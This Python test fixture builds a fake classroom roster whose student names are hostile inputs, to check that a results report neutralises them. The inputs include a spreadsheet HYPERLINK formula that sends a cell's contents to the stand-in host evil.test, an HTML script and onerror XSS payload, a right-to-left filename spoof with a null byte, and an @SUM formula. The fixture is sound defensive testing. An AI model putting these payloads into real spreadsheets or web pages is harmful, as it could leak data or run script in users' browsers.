"""Results of a class made by hand, and names that somebody may have put into a roster."""

import pandas as pd

from course.classroom.report.results import Results
from tests.course.classroom.class_frames import Class

HOSTILE = (
    '=HYPERLINK("http://evil.test/?"&A1,"see")',
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\u202egnp.exe\u2066 \u200f\u0000\nAnn",
    "A" * 200,
    "@SUM(A1)",
)
MARKS = ["student", "group", "stretch", "rater", "criterion", "points", "max_points", "critical_failed",
         "global_rating", "at"]  # fmt: skip
SHARED = ["student", "measure", "side", "at", "value", "trials", "up_an_hour", "keep_until"]


def results_of(course, group: Class, names=None) -> Results:
    """`names` by student, of the roster; everybody who has an attempt is in it."""
    answers, attempts, asked = group.frames
    ids = sorted({*attempts["student"], *(names or {})})
    students = pd.DataFrame(
        {
            "student": ids,
            "name": [(names or {}).get(id, float("nan")) for id in ids],
            "group": "a",
            "time_multiplier": 1.0,
            "accommodations": float("nan"),
            "in_roster": True,
            "has_handed_in": [id in set(attempts["student"]) for id in ids],
        }
    )
    marks, shared = pd.DataFrame(columns=MARKS), pd.DataFrame(columns=SHARED)
    return Results(course, students, attempts, answers, asked, marks, shared)


def hostile_class(course) -> Results:
    """Five students with names that are to stay neutral; ids s0 to s4, three questions of a quiz each."""
    group = Class()
    items = [item.id for item in course.quizzes["open-the-hips"].items[:3]]
    for number in range(len(HOSTILE)):
        scores = {item: float((number + place) % 2) for place, item in enumerate(items)}
        group.attempt(f"s{number}", items, scores=scores, quiz="open-the-hips", sureness="know")
    return results_of(course, group, {f"s{number}": name for number, name in enumerate(HOSTILE)})


def text_of(section) -> str:
    """All words of a section, in their order."""
    from course.classroom.report.blocks import Points, Table, Warn

    words = [section.heading]
    for block in section.blocks:
        match block:
            case str():
                words.append(block)
            case Warn():
                words.append(block.text)
            case Points():
                words += [line for item in block.items for line in item]
            case Table():
                words += [block.caption, *block.heads, *(cell for row in block.rows for cell in row)]
            case _:
                words.append(block.make().words)
    return "\n".join(words)
